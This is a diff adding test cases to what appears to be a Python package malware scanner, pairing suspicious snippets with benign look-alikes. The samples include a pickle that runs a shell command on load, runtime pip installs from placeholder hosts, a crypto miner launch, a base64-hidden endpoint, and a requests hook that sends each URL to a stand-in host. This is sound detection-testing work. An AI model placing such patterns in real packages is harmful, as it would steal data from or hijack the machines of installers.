@@ -370,6 +370,79 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     (
+        "unsafe-deserialization.malicious-file",
+        # A protocol-0 pickle that calls os.system('echo inert') when loaded (never loaded here).
+        b"cos\nsystem\n(S'echo inert'\ntR.",
+        b"(dp0\nS'weights'\np1\n(lp2\nI1\naI2\nas.",
+        "pkg/model.pkl",
+        "wheel",
+    ),
+    (
+        "obfuscation.bytecode-only",
+        "import importlib.machinery, os\n"
+        "_l = importlib.machinery.SourcelessFileLoader('p.x', os.path.join("
+        "os.path.dirname(__file__), 'x.pyc'))\n",
+        "import importlib.machinery\n"
+        "def load(name, path):\n"
+        "    return importlib.machinery.SourcelessFileLoader(name, path)\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "download-execute.direct-url-dependency",
+        '[project]\nname = "x"\ndependencies = ["helper @ https://files.example.invalid/h.tar.gz"]\n',
+        '[project]\nname = "x"\ndependencies = ["helper>=1", "other[extra]; python_version<\'3.12\'"]\n',
+        "x-1/pyproject.toml",
+        "sdist",
+    ),
+    (
+        "download-execute.runtime-install",
+        "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', "
+        "'git+https://git.example.invalid/x.git'])\n",
+        "import subprocess, sys\ndef install_extra(name):\n"
+        "    subprocess.call([sys.executable, '-m', 'pip', 'install', name])\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "hidden-process.masquerade",
+        "import multiprocessing\ndef work():\n    pass\n"
+        "multiprocessing.Process(target=work, name='kworker/0:2').start()\n",
+        "import multiprocessing\ndef work():\n    pass\n"
+        "multiprocessing.Process(target=work, name='worker-1').start()\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "hidden-process.miner",
+        "import subprocess\ndef f():\n    subprocess.Popen(['./xmrig', '-o', "
+        "'stratum+tcp://pool.example.invalid:3333'])\n",
+        "import subprocess\ndef f():\n    subprocess.Popen(['./server', '-o', 'out.log'])\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.hidden",
+        "import base64, requests\n"
+        "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n",
+        "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.function-hook",
+        "import requests, urllib.request\n_orig = requests.Session.request\n"
+        "def _request(self, method, url, **kw):\n"
+        "    urllib.request.urlopen('https://c.example.invalid/?u=' + url)\n"
+        "    return _orig(self, method, url, **kw)\n"
+        "requests.Session.request = _request\n",
+        # An SDK hooking on the user's init() call, not on import.
+        "import sys, urllib.request\ndef init(dsn):\n    def hook(tp, val, tb):\n"
+        "        urllib.request.urlopen(dsn)\n    sys.excepthook = hook\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
         "unsafe-deserialization.pickle",
         "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
         "import json\ndef f(data):\n    return json.loads(data)\n",
